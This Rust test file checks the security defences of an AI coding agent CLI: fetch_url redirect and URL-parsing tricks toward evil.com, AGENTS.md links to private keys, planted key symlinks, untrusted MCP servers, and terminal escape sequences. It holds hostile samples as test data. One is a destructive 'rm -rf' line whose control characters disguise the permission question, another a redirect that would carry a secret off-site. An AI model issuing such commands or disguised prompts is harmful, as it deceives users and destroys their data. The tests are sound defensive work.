//! Attacks on the first-hour features, each with the defence that holds:
//! `fetch_url` (pathological HTML, endless bodies, redirects off an
//! approved site), the key files of `spindle setup`, `spindle exec`
//! (oversized prompts, control characters in what it asks), the log file,
//! an untrusted project's MCP servers, and the instruction files and git
//! state a repository (or an unpacked archive) can plant for the system
//! prompt; then the tricks against the site rule of `fetch_url`.

use crate::support::fake_openai::chat_text;
use crate::support::prelude::WAIT;
use crate::support::web::{http_server, ok_text};
use crate::support::{in_process, run_prompt, temp_dir, Agent, Answer, FakeServer, Reply};
use serde_json::{json, Value};
use std::fs::File;
use std::io::{Read, Write};
#[cfg(unix)]
use std::os::fd::AsRawFd;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::sync::atomic::Ordering;
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

/// A fresh canonical directory (so paths compare as the agent sees them).
fn space(name: &str) -> PathBuf {
    spindle::os::canonical(temp_dir(name)).unwrap()
}

fn write_script(dir: &Path, replies: Value) -> String {
    let path = dir.join("script.json");
    std::fs::write(&path, json!({ "replies": replies }).to_string()).unwrap();
    path.to_str().unwrap().to_string()
}

/// `spindle acp` against the fake OpenAI-compatible server (named as
/// `OPENAI_BASE_URL` would name it: `in_process::openai_config`), in
/// process, initialized.
fn fake_model_agent(server: &FakeServer) -> Agent {
    let config = in_process::openai_config(&temp_dir("fake-model"), &server.base_url(), "sk-test");
    let mut agent = in_process::acp(&[
        "--model",
        "test-model",
        "--config",
        config.to_str().unwrap(),
    ]);
    agent.initialize();
    agent
}

// ---------------------------------------------------------------------
// fetch_url
// ---------------------------------------------------------------------

/// A page of `&` converts in linear time (an entity's `;` is looked for
/// nearby only); the bound below is a thousand times the work needed.
#[test]
fn fetch_html_with_many_ampersands_converts_in_linear_time() {
    // 1 MB of '&' (a page may be 5 MB): linear work is a few milliseconds;
    // the quadratic scan takes tens of seconds (minutes at 5 MB), outside
    // the fetch's 20 s time cap, which covers only the download.
    let html = format!("<p>{}</p>", "&".repeat(1_000_000));
    let (done, finished) = crossbeam_channel::bounded(1);
    let started = Instant::now();
    std::thread::spawn(move || {
        let _ = done.send(spindle::tools::fetch::html_to_text(&html).len());
    });
    let result = finished.recv_timeout(WAIT);
    assert!(
        result.is_ok(),
        "html_to_text of 1 MB of '&' still runs after {:?}",
        started.elapsed()
    );
    assert_eq!(result.unwrap(), 1_000_000);
}

/// `<header>` is not `<head>`: its content is kept.
#[test]
fn fetch_html_keeps_the_content_of_header_elements() {
    let html = "<html><head><title>t</title></head><body>\
        <header><h1>Release 2.0 notes</h1></header><main><p>Body text</p></main></body></html>";
    let text = spindle::tools::fetch::html_to_text(html);
    assert!(text.contains("Body text"), "{text}");
    assert!(text.contains("Release 2.0 notes"), "{text}");
}

/// Defence holds: an endless chunked body stops at the download cap, and
/// a giant header is refused, both quickly.
#[test]
fn fetch_caps_an_endless_chunked_body_and_refuses_a_giant_header() {
    let (base, _) = http_server(|_, path| {
        if path == "/header" {
            let mut out = b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nX-Big: ".to_vec();
            out.extend(std::iter::repeat_n(b'a', 4 * 1024 * 1024));
            out.extend(b"\r\nContent-Length: 2\r\n\r\nok");
            return out;
        }
        // Chunked, about 8 MB of text (more than the 5 MiB cap).
        let mut out =
            b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nTransfer-Encoding: chunked\r\n\r\n"
                .to_vec();
        let chunk = vec![b'z'; 64 * 1024];
        for _ in 0..128 {
            out.extend(format!("{:x}\r\n", chunk.len()).as_bytes());
            out.extend(&chunk);
            out.extend(b"\r\n");
        }
        out.extend(b"0\r\n\r\n");
        out
    });
    let text = spindle::tools::fetch::fetch(&format!("{base}/endless"), 1000, &Default::default())
        .unwrap();
    assert!(text.contains("[… cut"), "{text}");
    assert!(text.len() < 2000, "{}", text.len());
    let refused =
        spindle::tools::fetch::fetch(&format!("{base}/header"), 1000, &Default::default());
    assert!(refused.is_err(), "{refused:?}");
}

/// "Always allow" covers one site: a redirect within it is followed, one
/// to another site is not (the model is told the target, and fetching it
/// is asked anew).
#[test]
fn always_allowing_a_site_does_not_cover_its_redirects_to_another_site() {
    let (other, other_hits) = http_server(|_, _| ok_text("text/plain", "got it"));
    let (site, _) = http_server(|_, path| {
        if let Some(to) = path.strip_prefix("/go?to=") {
            format!(
                "HTTP/1.1 302 Found\r\nLocation: {to}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
            )
            .into_bytes()
        } else {
            ok_text("text/plain", "the allowed page")
        }
    });
    let dir = space("review-redirect");
    let ws = dir.join("ws");
    std::fs::create_dir_all(&ws).unwrap();
    let script = write_script(
        &dir,
        json!([
            {"tool_calls": [{"id": "f1", "name": "fetch_url", "arguments": {"url": format!("{site}/page")}}]},
            {"tool_calls": [{"id": "f2", "name": "fetch_url",
                "arguments": {"url": format!("{site}/go?to={other}/collect?secret=s3cr3t")}}]},
            {"tool_calls": [{"id": "f3", "name": "fetch_url",
                "arguments": {"url": format!("{site}/go?to=/page")}}]},
            {"text": "done"},
        ]),
    );
    let mut agent = in_process::acp(&["--script", &script, "--permissions", "auto"]);
    agent.initialize();
    let session = agent.new_session(&ws);
    let mut asked = 0;
    let turn = run_prompt(&mut agent, &session, "read", WAIT, |request| {
        assert_eq!(request["method"], "session/request_permission", "{request}");
        asked += 1;
        // The user always allows the first site; anything else is refused.
        Answer::select(if asked == 1 {
            "allow_always"
        } else {
            "reject_once"
        })
    });
    assert_eq!(turn.final_status("f1"), "completed", "{}", turn.dump());
    assert_eq!(
        other_hits.load(Ordering::SeqCst),
        0,
        "the other site was reached without asking (permissions asked: {asked}):\n{}",
        turn.final_text("f2")
    );
    assert_eq!(turn.final_status("f2"), "failed", "{}", turn.dump());
    assert!(
        turn.final_text("f2").contains("another site"),
        "{}",
        turn.final_text("f2")
    );
    // Within the site: followed, without asking.
    assert_eq!(turn.final_status("f3"), "completed", "{}", turn.dump());
    assert!(turn.final_text("f3").contains("the allowed page"));
    assert_eq!(asked, 1);
}

// ---------------------------------------------------------------------
// AGENTS.md and the system prompt
// ---------------------------------------------------------------------

fn system_prompt_sent(ws: &Path) -> String {
    let server = FakeServer::start();
    server.push(Reply::Sse(chat_text(&["ok"])));
    let mut agent = fake_model_agent(&server);
    let session = agent.new_session(ws);
    let turn = run_prompt(&mut agent, &session, "hi", WAIT, |r| {
        panic!("unexpected request {r}")
    });
    assert_eq!(turn.stop_reason(), "end_turn");
    let requests = server.wait_requests(1, WAIT);
    requests[0].body["messages"][0].to_string()
}

/// A repository's `AGENTS.md -> ../id_rsa` is not read into the system
/// prompt (nor sent to the model), and the prompt says why.
#[test]
fn an_agents_md_symlink_to_a_file_outside_the_workspace_is_not_sent_to_the_model() {
    let dir = space("review-agents-link");
    let ws = dir.join("ws");
    std::fs::create_dir_all(ws.join(".git")).unwrap();
    std::fs::write(ws.join(".git/HEAD"), "ref: refs/heads/main\n").unwrap();
    std::fs::write(dir.join("id_rsa"), "PRIVATE-KEY-7731\n").unwrap();
    // As a cloned repository can carry it: a relative symlink out.
    spindle::os::testing::symlink("../id_rsa", ws.join("AGENTS.md")).unwrap();
    let system = system_prompt_sent(&ws);
    assert!(
        !system.contains("PRIVATE-KEY-7731"),
        "a file outside the workspace reached the model: {system}"
    );
    assert!(
        system.contains("a link to a file outside its folder"),
        "{system}"
    );
}

/// An instruction file far over the limit is cut with a note, not dropped.
#[test]
fn an_oversized_agents_md_is_mentioned_not_silently_dropped() {
    let dir = space("review-agents-big");
    let ws = dir.join("ws");
    std::fs::create_dir_all(&ws).unwrap();
    std::fs::write(
        ws.join("AGENTS.md"),
        format!("Always run the linter.\n{}", "x".repeat(300 * 1024)),
    )
    .unwrap();
    let system = system_prompt_sent(&ws);
    assert!(
        system.contains("AGENTS.md"),
        "the instructions file vanished without a note: {}",
        &system[system.len().saturating_sub(300)..]
    );
}

/// A `.git/HEAD` of multi-byte text neither panics nor hangs the prompt.
#[test]
fn a_git_head_with_multibyte_text_does_not_hang_the_session() {
    let dir = space("review-head");
    let ws = dir.join("ws");
    std::fs::create_dir_all(ws.join(".git")).unwrap();
    std::fs::write(ws.join(".git/HEAD"), format!("a{}\n", "é".repeat(10))).unwrap();
    let script = write_script(&dir, json!([{"text": "hello"}]));
    let mut agent = in_process::acp(&["--script", &script]);
    agent.initialize();
    let session = agent.new_session(&ws);
    let id = agent.request(
        "session/prompt",
        json!({"sessionId": session, "prompt": [{"type": "text", "text": "hi"}]}),
    );
    let deadline = Instant::now() + WAIT;
    let mut answer = None;
    while answer.is_none() && Instant::now() < deadline {
        if let Some(message) = agent.recv(Duration::from_millis(50)) {
            if message.get("id") == Some(&id) && message.get("method").is_none() {
                answer = Some(message);
            }
        }
    }
    let answer = answer
        .unwrap_or_else(|| panic!("the prompt was never answered\n{}", agent.stderr_report()));
    assert_eq!(answer["result"]["stopReason"], "end_turn", "{answer}");
}

// ---------------------------------------------------------------------
// setup key files
// ---------------------------------------------------------------------

/// Defence holds: a symlink planted at `keys/NAME.key` is replaced, never
/// written through; the key file is 0600; names cannot leave `keys/`.
#[test]
fn setup_key_stdin_never_writes_through_a_planted_symlink_or_out_of_keys() {
    use spindle::config::ProviderKind;
    let dir = space("review-setup");
    let config = dir.join("cfg").join("config.json");
    let keys = dir.join("cfg").join("keys");
    std::fs::create_dir_all(&keys).unwrap();
    std::fs::write(dir.join("victim"), "original\n").unwrap();
    spindle::os::testing::symlink(dir.join("victim"), keys.join("local.key")).unwrap();
    let run = |name: Option<&str>, key: &str| {
        let args = spindle::cli::setup::SetupArgs {
            name: name.map(str::to_string),
            kind: Some(ProviderKind::Openai),
            base_url: Some("http://127.0.0.1:9/v1".into()),
            key_stdin: true,
            model: Some("m".into()),
            config: Some(config.clone()),
            no_test: true,
            ..Default::default()
        };
        let mut input = std::io::Cursor::new(format!("{key}\n").into_bytes());
        spindle::cli::setup::run(args, false, &mut input, &mut Vec::new())
    };
    run(None, "sk-first").unwrap();
    assert_eq!(
        std::fs::read_to_string(dir.join("victim")).unwrap(),
        "original\n"
    );
    let meta = std::fs::symlink_metadata(keys.join("local.key")).unwrap();
    assert!(meta.file_type().is_file(), "{meta:?}");
    #[cfg(unix)]
    assert_eq!(spindle::os::testing::mode(keys.join("local.key")), 0o600);
    assert_eq!(
        std::fs::read_to_string(keys.join("local.key")).unwrap(),
        "sk-first\n"
    );

    for name in ["../escape", "a/b", "/abs"] {
        assert!(run(Some(name), "sk-x").is_err(), "{name} accepted");
    }
    run(Some(".."), "sk-dots").unwrap();
    let written =
        spindle::config::Config::parse(&std::fs::read_to_string(&config).unwrap(), &config)
            .unwrap()
            .providers[".."]
            .api_key_file
            .clone()
            .unwrap();
    assert_eq!(written.parent(), Some(keys.as_path()), "{written:?}");
    assert!(!dir.join("cfg").join("key").exists() && !dir.join("escape.key").exists());
    // Nothing else was left in keys/ (no temporary files).
    let mut left: Vec<String> = std::fs::read_dir(&keys)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    left.sort();
    assert_eq!(left, ["...key", "local.key"]);
}

// ---------------------------------------------------------------------
// spindle exec
// ---------------------------------------------------------------------

/// `spindle exec ARGS` with `dir` as its folder and home.
fn exec_command(dir: &Path, args: &[&str]) -> Command {
    let mut command = crate::support::spindle_command(&dir.join("home"));
    command.arg("exec").args(args).current_dir(dir);
    command.env("XDG_DATA_HOME", dir.join("home").join("data"));
    command
}

/// A prompt on stdin over 1 MiB is refused (exit 1), never cut and sent.
#[test]
fn exec_does_not_silently_truncate_a_long_prompt_from_stdin() {
    let dir = space("review-exec-stdin");
    let server = FakeServer::start();
    server.push(Reply::Sse(chat_text(&["ok"])));
    let base = server.base_url();
    let mut child = exec_command(&dir, &["--model", "test-model", "--quiet", "-"])
        .env("OPENAI_BASE_URL", &base)
        .env("OPENAI_API_KEY", "sk-test")
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut stdin = child.stdin.take().unwrap();
    let writer = std::thread::spawn(move || {
        let _ = stdin.write_all("a".repeat(1024 * 1024).as_bytes());
        let _ = stdin.write_all(b"\nTHE-REAL-QUESTION-AT-THE-END\n");
    });
    let out = child.wait_with_output().unwrap();
    let _ = writer.join();
    let refused = out.status.code() != Some(0);
    let sent = server.requests();
    let whole = sent
        .iter()
        .any(|r| r.raw.contains("THE-REAL-QUESTION-AT-THE-END"));
    assert!(
        refused || whole,
        "exit {:?}, {} requests, none with the end of the prompt; stderr: {}",
        out.status.code(),
        sent.len(),
        String::from_utf8_lossy(&out.stderr)
    );
}

/// A pseudo-terminal that becomes the controlling terminal of the child
/// (`/dev/tty`), while the child's stdin, stdout and stderr stay pipes.
#[cfg(unix)]
struct ControllingPty {
    master: File,
    /// Held open so the terminal lives while the child opens and closes
    /// `/dev/tty` (no other descriptor of the child refers to it).
    _slave: File,
    screen: Arc<Mutex<Vec<u8>>>,
}

#[cfg(unix)]
fn spawn_with_controlling_pty(mut command: Command) -> (ControllingPty, std::process::Child) {
    let (master, slave) = crate::support::pty::open();
    let slave_fd = slave.as_raw_fd();
    // SAFETY: setsid and ioctl between fork and exec, nothing else.
    unsafe {
        use std::os::unix::process::CommandExt;
        command.pre_exec(move || {
            libc::setsid();
            if libc::ioctl(slave_fd, libc::TIOCSCTTY as _, 0) != 0 {
                return Err(std::io::Error::last_os_error());
            }
            Ok(())
        });
    }
    let child = command.spawn().expect("cannot start spindle exec");
    let screen = Arc::new(Mutex::new(Vec::new()));
    let sink = screen.clone();
    let mut reader = master.try_clone().unwrap();
    std::thread::spawn(move || {
        let mut buf = [0u8; 4096];
        while let Ok(n @ 1..) = reader.read(&mut buf) {
            sink.lock().unwrap().extend_from_slice(&buf[..n]);
        }
    });
    (
        ControllingPty {
            master,
            _slave: slave,
            screen,
        },
        child,
    )
}

/// The model's control characters in a command are written out in the
/// question on the terminal: they cannot rewrite what the user is asked.
// A controlling terminal is a Unix pty; Windows has consoles instead.
#[cfg(unix)]
#[test]
fn exec_permission_question_shows_no_terminal_control_characters_from_the_model() {
    let dir = space("review-exec-tty");
    // The command the user is asked about deletes a folder; the control
    // characters in its comment make the terminal show another question.
    let command_line = "rm -rf important #\r\x1b[2KAllow Run ls";
    let script = write_script(
        &dir,
        json!([
            {"tool_calls": [{"id": "c1", "name": "run_command", "arguments": {"command": command_line}}]},
            {"text": "done"},
        ]),
    );
    let mut command = exec_command(&dir, &["--script", &script, "--permissions", "ask", "go"]);
    command
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    let (mut pty, child) = spawn_with_controlling_pty(command);
    let deadline = Instant::now() + WAIT;
    let question = loop {
        let screen = String::from_utf8_lossy(&pty.screen.lock().unwrap()).into_owned();
        if let Some(end) = screen.find("[N]o or ") {
            break screen[..end].to_string();
        }
        if Instant::now() >= deadline {
            let _ = pty.master.write_all(b"n\r");
            let out = child.wait_with_output().unwrap();
            panic!(
                "no question on the terminal: {screen:?}; stderr: {}",
                String::from_utf8_lossy(&out.stderr)
            );
        }
        std::thread::sleep(Duration::from_millis(10));
    };
    let _ = pty.master.write_all(b"n\r");
    let out = child.wait_with_output().unwrap();
    // The terminal ends each line with CR LF itself.
    let question = question.replace("\r\n", "\n");
    assert!(
        !question.chars().any(|c| c.is_control() && c != '\n'),
        "the question on the terminal carries control characters: {question:?}\nstderr: {}",
        String::from_utf8_lossy(&out.stderr)
    );
}

// ---------------------------------------------------------------------
// The log file
// ---------------------------------------------------------------------

/// An existing world-readable log file is made private (0600).
#[test]
#[cfg_attr(windows, ignore = "Unix file modes")]
fn an_existing_world_readable_log_file_is_made_private() {
    let dir = space("review-log");
    let log = dir.join("spindle.log");
    std::fs::write(&log, "").unwrap();
    spindle::os::testing::set_mode(&log, 0o644).unwrap();
    let mut agent = Agent::spawn(&["acp", "--log-file", log.to_str().unwrap()], &[]);
    agent.initialize();
    agent.close_stdin();
    assert!(agent.wait_exit(WAIT).is_some());
    let mode = spindle::os::testing::mode(&log);
    assert_eq!(mode, 0o600, "the log is mode {mode:o}");
}

// ---------------------------------------------------------------------
// Project MCP servers
// ---------------------------------------------------------------------

/// Defence holds: an untrusted workspace's `.spindle/config.json` starts
/// no server, through `doctor`, `mcp list` or a session; once the project
/// is trusted, `doctor` does start it (the probe works).
#[test]
#[cfg_attr(windows, ignore = "sh command lines")]
fn an_untrusted_projects_mcp_servers_never_start() {
    let dir = space("review-mcp");
    let ws = dir.join("ws");
    let marker = dir.join("started");
    std::fs::create_dir_all(ws.join(".spindle")).unwrap();
    let server = json!({"name": "evil", "command": "sh",
        "args": ["-c", format!("touch {}", marker.display())]});
    std::fs::write(
        ws.join(".spindle/config.json"),
        json!({"mcp_servers": [server]}).to_string(),
    )
    .unwrap();
    let config = dir.join("config.json");
    std::fs::write(&config, "{}").unwrap();
    let run = |args: &[&str]| {
        let mut command = crate::support::spindle_command(&dir.join("home"));
        command
            .args(args)
            .arg("--config")
            .arg(&config)
            .current_dir(&ws);
        command
            .env("XDG_DATA_HOME", dir.join("home").join("data"))
            .stdin(Stdio::null())
            .output()
            .unwrap()
    };
    run(&["doctor"]);
    let listed = run(&["mcp", "list"]);
    assert!(
        String::from_utf8_lossy(&listed.stdout).contains("not trusted"),
        "{}",
        String::from_utf8_lossy(&listed.stdout)
    );
    let script = write_script(&dir, json!([]));
    let mut agent = Agent::spawn(
        &[
            "acp",
            "--script",
            &script,
            "--config",
            config.to_str().unwrap(),
        ],
        &[],
    );
    agent.initialize();
    agent.new_session(&ws);
    // Waiting to see nothing happen: no event marks a server that was not
    // started, so give one that wrongly was the time to write its marker.
    std::thread::sleep(Duration::from_millis(200));
    assert!(!marker.exists(), "an untrusted project's MCP server ran");
    drop(agent);

    // Trusted: doctor starts it, so the probe above could have seen it.
    let trusted =
        json!({"permissions": {"projects": {ws.display().to_string(): {"trusted": true}}}});
    std::fs::write(&config, trusted.to_string()).unwrap();
    run(&["doctor"]);
    let deadline = Instant::now() + WAIT;
    while !marker.exists() && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(20));
    }
    assert!(marker.exists(), "the probe server never ran, even trusted");
}

// ---------------------------------------------------------------------
// fetch_url: sites and redirects
// ---------------------------------------------------------------------

/// Defence holds: for every URL the http crate (ureq's parser) accepts,
/// `site_of` names exactly the scheme and host:port ureq connects to.
#[test]
fn site_of_names_the_authority_ureq_connects_to() {
    let tricky = [
        "http://good.com\\@evil.com/",
        "http://good.com%2f@evil.com/",
        "http://evil.com%2f@good.com/",
        "http://a@b@evil.com/",
        "http://good.com#@evil.com/",
        "http://good.com?@evil.com/",
        "http://good.com:80@evil.com:81/",
        "http://[::1]:8080/x",
        "http://u:p@[::1]/x",
        "http://EVIL.com./",
        "http://good.com\t@evil.com/",
        "http://good.com @evil.com/",
        "https://good.com:443/",
        "http://%65vil.com/",
        "http://good.com:/x",
        "http://good.com;evil.com/",
    ];
    for url in tricky {
        let Ok(uri) = url.parse::<ureq::http::Uri>() else {
            continue;
        };
        let (Some(scheme), Some(authority)) = (uri.scheme_str(), uri.authority()) else {
            continue;
        };
        let host_port = authority.as_str().rsplit('@').next().unwrap();
        let expected = format!("{scheme}://{host_port}").to_ascii_lowercase();
        assert_eq!(
            spindle::tools::fetch::site_of(url),
            expected,
            "{url:?}: ureq connects to {}:{:?}",
            authority.host(),
            authority.port_u16()
        );
    }
}

/// Defence holds: no `Location` trick (scheme-relative, backslashes,
/// userinfo, fragments, tabs, upper-case schemes, IPv6 forms) takes a
/// fetch of an approved site to another one.
#[test]
fn redirect_tricks_never_reach_another_site() {
    let (other, other_hits) = http_server(|_, _| ok_text("text/plain", "OTHER-SITE"));
    let other_port = other.rsplit(':').next().unwrap().to_string();
    let q = other_port.clone();
    let (site, _) = http_server(move |base, path| {
        let own = base.trim_start_matches("http://").to_string();
        let q = &q;
        let locations = [
            format!("//127.0.0.1:{q}/x"),
            format!("/\\127.0.0.1:{q}/x"),
            format!("\\\\127.0.0.1:{q}/x"),
            format!("/\\/127.0.0.1:{q}/x"),
            format!("http://{own}@127.0.0.1:{q}/x"),
            format!("http://{own}\\@127.0.0.1:{q}/x"),
            format!("http://{own}\t@127.0.0.1:{q}/x"),
            format!("http://{own}#@127.0.0.1:{q}/x"),
            format!("http://{own}?@127.0.0.1:{q}/x"),
            format!("http://{own}%40127.0.0.1:{q}/x"),
            format!("HTTP://127.0.0.1:{q}/x"),
            format!("http:\\\\127.0.0.1:{q}/x"),
            format!("http:/127.0.0.1:{q}/x"),
            format!("http:127.0.0.1:{q}/x"),
            format!("  http://127.0.0.1:{q}/x"),
            format!("http://[::ffff:127.0.0.1]:{q}/x"),
            format!("http://[::ffff:7f00:1]:{q}/x"),
            format!("http://127.1:{q}/x"),
            format!("http://0x7f000001:{q}/x"),
            format!("http://localhost:{q}/x"),
        ];
        match path.strip_prefix("/go/").and_then(|n| n.parse::<usize>().ok()) {
            Some(n) if n < locations.len() => format!(
                "HTTP/1.1 302 Found\r\nLocation: {}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n",
                locations[n]
            )
            .into_bytes(),
            _ => ok_text("text/plain", "SAME-SITE"),
        }
    });
    let mut seen = Vec::new();
    for n in 0..20 {
        let result =
            spindle::tools::fetch::fetch(&format!("{site}/go/{n}"), 500, &Default::default());
        seen.push(format!("{n}: {result:?}"));
        if let Ok(text) = &result {
            assert!(!text.contains("OTHER-SITE"), "{n}: {text}");
        }
    }
    assert_eq!(
        other_hits.load(Ordering::SeqCst),
        0,
        "another site was reached:\n{}",
        seen.join("\n")
    );
}

// ---------------------------------------------------------------------
// AGENTS.md and the system prompt
// ---------------------------------------------------------------------

/// A hard link is a link out of the repository too: its inode is the
/// outside file's (the agent's own writes ask for files with other links).
#[test]
fn an_agents_md_hard_link_to_an_outside_file_is_not_sent_to_the_model() {
    let dir = space("attacks-agents-hardlink");
    let ws = dir.join("ws");
    std::fs::create_dir_all(ws.join(".git")).unwrap();
    std::fs::write(ws.join(".git/HEAD"), "ref: refs/heads/main\n").unwrap();
    std::fs::write(dir.join("id_rsa"), "PRIVATE-KEY-4417\n").unwrap();
    std::fs::hard_link(dir.join("id_rsa"), ws.join("AGENTS.md")).unwrap();
    let system = system_prompt_sent(&ws);
    assert!(
        !system.contains("PRIVATE-KEY-4417"),
        "a hard-linked outside file reached the model: {system}"
    );
}

/// A folder that is no repository of its own (an unpacked archive) under
/// a home folder that is one (dotfiles in `~/.git`): its `AGENTS.md`
/// link to `~/.ssh/id_rsa` stays out of the prompt.
#[test]
fn a_plain_folder_under_a_home_repository_cannot_link_its_agents_md_to_the_home() {
    let dir = space("attacks-agents-home");
    let home = dir.join("home");
    std::fs::create_dir_all(home.join(".git")).unwrap();
    std::fs::write(home.join(".git/HEAD"), "ref: refs/heads/main\n").unwrap();
    std::fs::create_dir_all(home.join(".ssh")).unwrap();
    std::fs::write(home.join(".ssh/id_rsa"), "PRIVATE-KEY-9902\n").unwrap();
    let ws = home.join("Downloads").join("project");
    std::fs::create_dir_all(&ws).unwrap();
    // As an unpacked tarball carries it.
    spindle::os::testing::symlink("../../.ssh/id_rsa", ws.join("AGENTS.md")).unwrap();
    let system = system_prompt_sent(&ws);
    assert!(
        !system.contains("PRIVATE-KEY-9902"),
        "a link out of the project reached the model: {system}"
    );
}

// ---------------------------------------------------------------------
// spindle exec
// ---------------------------------------------------------------------

/// Defence holds: C1 controls (CSI `\u{9b}`, OSC `\u{9d}`, ST `\u{9c}`,
/// NEL) and C0 escapes in the model's answer are written out on stdout.
#[test]
fn exec_writes_out_c1_control_characters_of_the_answer() {
    let dir = space("attacks-exec-c1");
    let script = write_script(
        &dir,
        json!([{"text": "A\u{9b}2JB\u{9d}0;owned\u{9c}C\u{85}D\u{1b}[31mE\u{7f}F"}]),
    );
    let out = exec_command(&dir, &["--script", &script, "go"])
        .stdin(Stdio::null())
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(stdout.contains('A') && stdout.contains('F'), "{stdout:?}");
    assert!(
        !stdout.chars().any(|c| c.is_control() && c != '\n'),
        "raw control characters on stdout: {stdout:?}"
    );
}

/// An error the agent reports (here a provider's error message, which an
/// endpoint or a proxy chooses) reaches stderr without control sequences.
#[test]
fn exec_writes_out_control_characters_of_an_error_message() {
    let dir = space("attacks-exec-error");
    let server = FakeServer::start();
    for _ in 0..4 {
        server.push(Reply::openai_error(
            400,
            "bad request\u{1b}]0;owned\u{7}\u{1b}[2J\u{9b}2J",
            "invalid_request_error",
            "bad",
        ));
    }
    let base = server.base_url();
    let out = exec_command(&dir, &["--model", "test-model", "go"])
        .env("OPENAI_BASE_URL", &base)
        .env("OPENAI_API_KEY", "sk-test")
        .stdin(Stdio::null())
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        stderr.contains("bad request") || stdout.contains("bad request"),
        "the error was not shown: {stderr:?} {stdout:?}"
    );
    assert!(
        !stderr.chars().any(|c| c.is_control() && c != '\n')
            && !stdout.chars().any(|c| c.is_control() && c != '\n'),
        "raw control characters: stderr {stderr:?} stdout {stdout:?}"
    );
}
